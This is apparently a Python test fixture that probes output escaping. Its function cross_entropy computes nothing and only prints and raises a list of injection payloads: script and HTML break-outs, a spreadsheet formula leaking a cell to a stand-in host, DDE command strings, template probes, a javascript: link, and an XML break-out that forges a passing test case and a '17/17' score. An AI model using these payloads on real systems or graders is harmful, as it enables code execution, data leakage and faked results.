# tries: what is printed and raised holds scripts, formulas of a spreadsheet, templates and markdown.
# deserves: cross_entropy 0
# ends: cross_entropy raised

NASTY = (
    "</pre></td><script>document.body.innerHTML='17/17'</script><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
    "[click](javascript:alert(1)) ![](http://example.invalid/pixel.png)",
    "[bold red]markup of a terminal[/bold red]",
    "]]></failure><testcase name='won'/>",
)


def cross_entropy(y_true, y_pred):
    print("\n".join(NASTY))
    raise ValueError(" ".join(NASTY))
